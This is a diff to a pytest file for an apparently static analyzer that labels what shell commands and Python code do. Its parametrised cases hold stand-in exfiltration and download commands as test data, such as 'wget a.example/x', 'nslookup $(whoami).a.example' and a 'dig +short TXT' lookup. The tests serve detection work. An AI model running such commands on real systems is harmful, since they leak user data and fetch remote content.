@@ -4,7 +4,7 @@ import base64
 
 import pytest
 
-from airlock.syntax import Context, Deed
+from airlock.syntax import Context, Deed, Origin
 from airlock.syntax.decoding import decode_source
 from airlock.syntax.parsing import parse
 from airlock.syntax.words import find_words
@@ -135,10 +135,40 @@ def test_code_written_to_a_file_is_read() -> None:
         ("wget a.example/x", Deed.REQUEST, "a.example/x"),
         ("powershell iwr https://a.example/x", Deed.REQUEST, "https://a.example/x"),
         ("nslookup $(whoami).a.example", Deed.SEND, "$(whoami).a.example"),
+        ("sh -c 'dig +short TXT a.example'", Deed.SEND, "a.example"),
     ],
 )
 def test_what_a_command_does_in_its_turn_is_told(command: str, deed: Deed, text: str) -> None:
     assert only(f"import os\nos.system({command!r})", deed).text == text
+
+
+def test_an_option_that_is_called_as_a_resolver_looks_nothing_up() -> None:
+    code = "import os\nos.system('docker run --network host -v /tmp:/entrypoint.sh image')"
+    assert acts_of(code, Deed.SEND) == []
+
+
+def test_a_function_is_not_called_by_copying_its_name() -> None:
+    code = (
+        "import functools, os\ndef logged(f):\n    @functools.wraps(f)\n    def g(*given):\n"
+        "        return f(*given)\n    return g\n@logged\ndef run():\n    os.system('true')\n"
+    )
+    assert only(code, Deed.PROCESS, path=MODULE).context is Context.CALLED
+
+
+def test_what_nothing_is_known_of_may_get_sources() -> None:
+    code = (
+        "import asyncio, os, subprocess\ndef f(task):\n"
+        "    subprocess.run(asyncio.wait_for(task, os.environ))\n"
+    )
+    assert Origin.ENVIRON in only(code, Deed.PROCESS).origins()
+
+
+def test_code_that_is_filled_in_is_code() -> None:
+    code = (
+        "import os\nwith open('a.py', 'w') as f:\n"
+        "    f.write('import os\\nx = os.environ.pop({name!r}, None)\\n'.format(name='A'))\n"
+    )
+    assert read_code(code).gaps == ()
 
 
 def test_a_file_without_a_word_of_interest_has_no_hits() -> None:
